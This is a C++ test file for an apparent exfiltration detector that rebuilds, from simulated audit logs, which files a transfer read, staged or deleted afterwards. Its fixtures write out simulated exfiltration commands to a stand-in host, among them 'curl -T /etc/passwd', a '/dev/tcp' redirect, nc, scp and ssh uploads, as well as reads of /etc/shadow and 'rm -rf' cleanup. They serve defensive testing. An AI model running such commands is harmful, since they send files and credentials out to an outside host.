#include <algorithm>

#include "host_with_cron.hpp"

/// Which files a transfer opened, how they were made ready and what became of them.
namespace auexfil::test {
namespace {

constexpr std::uint64_t kWrite = 0x241;  // O_WRONLY|O_CREAT|O_TRUNC
constexpr std::uint64_t kOnExec = 0x80000;

/// "/srv/a 100 measured", each file.
std::vector<std::string> files_of(const facts::Fact& fact) {
  std::vector<std::string> files;
  for (const facts::FileUse& file : fact.files) {
    files.push_back(file.path + ' ' + (file.bytes ? std::to_string(*file.bytes) : "?") + ' ' +
                    to_word(file.basis));
  }
  return files;
}

/// What is said of making ready and removing, in order.
std::vector<std::string> steps_of(const facts::Fact& fact) {
  std::vector<std::string> steps;
  for (const facts::Reason& reason : fact.reasons) {
    if (reason.sign == "staged" || reason.sign == "removed") {
      steps.push_back(reason.text.substr(0, reason.text.find(", made")));
    }
  }
  return steps;
}

using Texts = std::vector<std::string>;

/// A cron job with what it runs.
struct Job {
  Log log;
  int shell = 0;

  explicit Job(std::function<bool(const Called&)> profile = {}) {
    log.audited = std::move(profile);
    log.there(300, 1, "/usr/sbin/cron");
    shell = log.cron_job(300, 310, 311, "/usr/local/bin/job", 4);
  }
  int run(int pid, const Texts& argv, std::string_view cwd = "/root") {
    log.fork(shell, pid);
    exec(pid, argv, cwd);
    return pid;
  }
  void exec(int pid, const Texts& argv, std::string_view cwd = "/root") {
    log.cwd = cwd;
    log.exec(pid, "/usr/bin/" + argv.front(), argv);
    log.cwd = "/root";
  }
  /// scp and the ssh that it starts, which sends.
  void scp(int pid, const Texts& files, std::string_view cwd = "/root") {
    Texts argv{"scp", "-q"};
    argv.insert(argv.end(), files.begin(), files.end());
    argv.emplace_back("drop@203.0.113.9:up/");
    run(pid, argv, cwd);
  }
  void send(int pid, int ssh) {
    log.fork(pid, ssh);
    exec(ssh, {"ssh", "-x", "-l", "drop", "-s", "--", "203.0.113.9", "sftp"});
    log.tcp(ssh, 3, "203.0.113.9", 22);
    log.upload(ssh, 3, 5'000'000);
    log.exit(ssh);
    log.exit(pid);
  }
  facts::Fact of(int pid) { return of_pid(tell(log), pid); }
};

}  // namespace

TEST_CASE("files: what a transfer opened for reading, and nothing else") {
  Job job;
  job.scp(400, {"/srv/a", "b", "out"});
  job.log.open_in(400, 3, "/root", "/etc/ld.so.cache", kOnExec);
  job.log.open_in(400, 3, "/root", "/lib/x86_64-linux-gnu/libc.so.6", kOnExec);
  job.log.open_in(400, 3, "/root", "/etc/ssh/ssh_config");
  job.log.open_in(400, 4, "/root", "/srv/a");
  job.log.read(400, 4, 1000);
  job.log.read(400, 4, 234);
  job.log.close(400, 4);
  job.log.open_in(400, 4, "/home/me", "b");
  job.log.open_in(400, 5, "/root", "out", kWrite);
  job.log.read(400, 5, 99);
  job.log.open_in(400, -13, "/root", "/etc/shadow");
  job.log.open_in(400, 6, "/root", "/srv/d", 0, "040755");
  job.log.open_in(400, 7, "/root", "/srv/pipe", 0, "010644");
  job.send(400, 401);
  const facts::Fact fact = job.of(400);
  CHECK(files_of(fact) == Texts{"/srv/a 1234 measured", "/home/me/b ? unknown"});
  CHECK(fact.files_count == 2);
  CHECK(fact.files_own == 3);
  CHECK(fact.files_unnamed == 0);
  REQUIRE(fact.files[0].event);
  CHECK(steps_of(fact).empty());
}

TEST_CASE("files: names count from the folder that the log tells, and stay as they are without") {
  Job job;
  job.scp(400, {"-r", "d"});
  job.log.open_in(400, 4, "/srv", "d", 0x90000, "040755");
  job.log.open_in(400, 5, "/srv", "one", 0, "0100644", 4);
  job.log.open_in(400, 6, "/srv", "../../../x/../two", 0, "0100644", 4);
  job.log.open_in(400, 7, "/srv", "three", 0, "0100644", 9);  // nobody saw what 9 is
  job.log.open_in(400, 8, "no folder", "four");               // no kernel writes that
  job.log.open_in(400, 9, "/srv", "new\nline");
  job.send(400, 401);
  CHECK(files_of(job.of(400)) == Texts{"/srv/d/one ? unknown", "/two ? unknown", "three ? unknown",
                                       "four ? unknown", "/srv/new\nline ? unknown"});
}

TEST_CASE("files: opens without names are counted") {
  Job job;
  job.scp(400, {"/srv/a"});
  job.log.call(400, "openat", 4, {0xffffff9cU, 0x7f, 0, 0});
  job.send(400, 401);
  const facts::Fact fact = job.of(400);
  CHECK(fact.files.empty());
  CHECK(fact.files_unnamed == 1);
}

TEST_CASE("files: a bound hides no count") {
  Job job;
  job.scp(400, {"-r", "/srv"});
  for (int i = 0; i < 150; ++i) {
    job.log.open_in(400, 4, "/srv", "f" + std::to_string(i));
    job.log.close(400, 4);
  }
  job.log.open_in(400, 4, "/srv", "f0");  // again
  job.send(400, 401);
  const facts::Fact fact = job.of(400);
  CHECK(fact.files.size() == 100);
  CHECK(fact.files_count == 150);

  transfer::TransferBuilder::Options book;
  book.files.max_files = 10;
  const Told told = tell_host(job.log.text(), {}, book);
  CHECK(of_pid(told.facts, 400).files.size() == 10);
  CHECK(of_pid(told.facts, 400).files_count == 150);
  CHECK(told.builder->bounds().at("files") > 0);
}

TEST_CASE("files: where reads are not in the log their bytes are not known") {
  Job job(all_but({"read"}));
  job.scp(400, {"/srv/a"});
  job.log.open_in(400, 4, "/root", "/srv/a");
  job.log.read(400, 4, 1000);
  job.send(400, 401);
  CHECK(files_of(job.of(400)) == Texts{"/srv/a ? unknown"});
}

TEST_CASE("files: what the command line names is listed whatever it is") {
  Job job;
  job.run(400, {"curl", "-T", "/etc/passwd", "https://203.0.113.9/"});
  job.log.open_in(400, 3, "/root", "/etc/passwd");
  job.log.open_in(400, 4, "/root", "/etc/hosts");
  job.log.tcp(400, 5, "203.0.113.9", 443);
  job.log.upload(400, 5, 5000);
  job.log.exit(400);
  const facts::Fact fact = job.of(400);
  CHECK(files_of(fact) == Texts{"/etc/passwd ? unknown"});
  CHECK(fact.files_own == 1);
}

TEST_CASE("files: sendfile reads as well") {
  Job job;
  job.run(400, {"ncftpput", "-u", "u", "203.0.113.9", "up", "/srv/a"});
  job.log.open_in(400, 4, "/root", "/srv/a");
  job.log.tcp(400, 5, "203.0.113.9", 21);
  job.log.write(400, 5, 60);
  job.log.call(400, "sendfile", 7000, {5, 4, 0, 7000});
  job.log.exit(400);
  CHECK(files_of(job.of(400)).front().starts_with("/srv/a 7000 "));
}

TEST_CASE("files: what the shell opened for it before the exec") {
  Job job;
  job.log.open_in(311, 3, "/root", "/srv/of-the-shell");  // closed again, where closes are logged
  job.log.close(311, 3);
  job.log.fork(311, 400);
  job.log.open_in(400, 3, "/srv", "secret");
  job.log.dup2(400, 3, 0);
  job.log.close(400, 3);
  job.exec(400, {"nc", "203.0.113.9", "99"});
  job.log.tcp(400, 3, "203.0.113.9", 99);
  job.log.read(400, 0, 4096);
  job.log.upload(400, 3, 5'000'000);
  job.log.exit(400);
  CHECK(files_of(job.of(400)) == Texts{"/srv/secret 4096 measured"});
}

TEST_CASE("files: a number that may be closed long ago is not inherited") {
  Job job(all_but({"close", "dup2", "close_range"}));
  job.log.open_in(311, 3, "/root", "/srv/of-the-shell");
  job.log.close(311, 3);
  job.log.fork(311, 400);
  job.exec(400, {"nc", "203.0.113.9", "99"});
  job.log.tcp(400, 4, "203.0.113.9", 99);
  job.log.upload(400, 4, 5'000'000);
  job.log.exit(400);
  CHECK(job.of(400).files.empty());
}

TEST_CASE("files: what fed it through pipes") {
  Job job;
  job.log.pipe(311, 3, 4);
  job.log.fork(311, 400);
  job.log.dup2(400, 4, 1);
  job.log.close(400, 3);
  job.log.close(400, 4);
  job.exec(400, {"cat", "/srv/a"}, "/srv");
  job.log.pipe(311, 5, 6);
  job.log.fork(311, 401);
  job.log.dup2(401, 3, 0);
  job.log.dup2(401, 6, 1);
  job.exec(401, {"gzip", "-c"});
  job.log.open_in(400, 3, "/srv", "a");
  job.log.read(400, 3, 500);
  job.log.exit(400);
  job.log.close(311, 3);
  job.log.fork(311, 402);
  job.log.dup2(402, 5, 0);
  job.exec(402, {"ssh", "203.0.113.9", "cat > x"});
  job.log.tcp(402, 3, "203.0.113.9", 22);
  job.log.upload(402, 3, 5'000'000);
  job.log.exit(401);
  job.log.exit(402);
  const facts::Fact fact = job.of(402);
  CHECK(files_of(fact) == Texts{"/srv/a 500 measured"});
  CHECK(steps_of(fact) == Texts{"gzip (pid 401) compressed what it sends, through a pipe (T1560)"});
}

TEST_CASE("files: what writes to a shell's connection works for it") {
  Job job;
  job.log.fork(311, 400);
  job.exec(400, {"bash", "-c", "cat /srv/a > /dev/tcp/203.0.113.9/99"});
  job.log.tcp(400, 3, "203.0.113.9", 99);
  job.log.fork(400, 401);
  job.log.dup2(401, 3, 1);
  job.exec(401, {"cat", "/srv/a"});
  job.log.open_in(401, 4, "/root", "/srv/a");
  job.log.read(401, 4, 5000);
  job.log.write(401, 1, 5'000'000);
  job.log.exit(401);
  job.log.exit(400);
  CHECK(files_of(job.of(400)) == Texts{"/srv/a 5000 measured"});
}

TEST_CASE("files: of programs that send nothing no open is looked at") {
  Job job;
  job.run(400, {"find", "/"});
  for (int i = 0; i < 50; ++i) {
    job.log.open_in(400, 3, "/", "/srv/" + std::to_string(i));
  }
  const Told told = tell_host(job.log.text());
  CHECK(told.tracker->opened(1) == nullptr);
}

TEST_CASE("staged: from command lines alone, by path and working directory") {
  Job job(only({"execve", "connect", "sendto", "clone"}));
  job.run(400, {"tar", "czf", "x/../a.tgz", "/srv"}, "/var/tmp");
  job.run(401, {"gpg", "-o", "/var/tmp/a.bin", "-c", "a.tgz"}, "/var/tmp");
  job.scp(402, {"./a.bin"}, "/var/tmp");
  job.send(402, 403);
  job.run(404, {"rm", "-rf", "/var/tmp"});
  CHECK(steps_of(job.of(402)) ==
        Texts{"tar (pid 400) packed /var/tmp/a.tgz", "gpg (pid 401) encrypted /var/tmp/a.bin",
              "rm (pid 404) removed /var/tmp/a.bin after it was sent (T1070.004)"});
}

TEST_CASE("staged: the same name in another folder is another file") {
  Job job;
  job.run(400, {"tar", "czf", "a.tgz", "/srv"}, "/var/tmp");
  job.scp(401, {"a.tgz"}, "/home/me");
  job.send(401, 402);
  job.log.unlink(311, "/var/tmp", "a.tgz");
  CHECK(steps_of(job.of(401)).empty());
}

TEST_CASE("staged: what a program was seen to write counts without its words") {
  Job job;
  job.log.fork(311, 400);
  job.log.open_in(400, 3, "/srv", "dump.sql", kWrite);
  job.log.dup2(400, 3, 1);
  job.log.close(400, 3);
  job.exec(400, {"mysqldump", "shop"});
  job.log.exit(400);
  job.run(401, {"split", "-b", "1M", "dump.sql"}, "/srv");
  job.log.open_in(401, 3, "/srv", "dump.sql");
  job.log.open_in(401, 4, "/srv", "xaa", kWrite);
  job.log.exit(401);
  job.scp(402, {"/srv/xaa"});
  job.log.open_in(402, 3, "/root", "/srv/xaa");
  job.send(402, 403);
  CHECK(steps_of(job.of(402)) ==
        Texts{"mysqldump (pid 400) dumped /srv/dump.sql", "split (pid 401) split /srv/xaa"});
}

TEST_CASE("staged: nothing that comes in was made ready") {
  Job job;
  job.run(400, {"tar", "czf", "/tmp/a", "/srv"});
  job.run(401, {"scp", "drop@203.0.113.9:a", "/tmp/a"});
  job.log.fork(401, 402);
  job.exec(402, {"ssh", "-x", "-l", "drop", "-s", "--", "203.0.113.9", "sftp"});
  job.log.tcp(402, 3, "203.0.113.9", 22);
  job.log.write(402, 3, 3000);
  job.log.read(402, 3, 9'000'000);
  job.log.exit(402);
  job.log.unlink(311, "/", "/tmp/a");
  const facts::Fact fact = job.of(401);
  CHECK(fact.direction == facts::Direction::in);
  CHECK(steps_of(fact).empty());
}

TEST_CASE("removed: by the kernel's word, after it was sent, from a folder's descriptor too") {
  Job job;
  job.log.unlink(311, "/", "/srv/a");  // before: another one
  job.scp(400, {"/srv/a", "/srv/b"});
  job.log.open_in(400, 4, "/root", "/srv/a");
  job.log.open_in(400, 5, "/root", "/srv/b");
  job.send(400, 401);
  job.run(402, {"rm", "-r", "/srv"});
  job.log.open_in(402, 3, "/root", "/srv", 0x90000, "040755");
  job.log.unlink(402, "/root", "a", 3);
  CHECK(steps_of(job.of(400)) ==
        Texts{"rm (pid 402) removed /srv/a after it was sent (T1070.004)"});
}

TEST_CASE("staged: many files are told with their number") {
  Job job;
  Texts files;
  for (int i = 0; i < 20; ++i) {
    files.push_back("/srv/" + std::to_string(i));
    job.log.unlink(311, "/", files.back());
  }
  job.scp(400, files);
  for (int i = 0; i < 20; ++i) {
    job.log.open_in(400, 4, "/root", files[static_cast<std::size_t>(i)]);
    job.log.close(400, 4);
  }
  job.send(400, 401);
  for (const std::string& file : files) {
    job.log.unlink(311, "/", file);
  }
  const Texts steps = steps_of(job.of(400));
  REQUIRE(steps.size() == 8);
  CHECK(steps.back().ends_with("… and 12 more"));
}

TEST_CASE("staged: archives without end are counted, and leave room for nothing else") {
  Job job;
  for (int i = 0; i < 300; ++i) {
    job.run(1000 + i, {"tar", "cf", "/tmp/" + std::to_string(i) + ".tar", "/srv"});
    job.log.exit(1000 + i);
  }
  job.scp(400, {"/tmp/1.tar"});
  job.send(400, 401);
  transfer::TransferBuilder::Options book;
  book.files.max_history_bytes = 4096;
  const Told told = tell_host(job.log.text(), {}, book);
  CHECK(told.builder->bounds().at("files") > 280);
  CHECK(steps_of(of_pid(told.facts, 400)) == Texts{"tar (pid 1001) packed /tmp/1.tar"});
}

}  // namespace auexfil::test
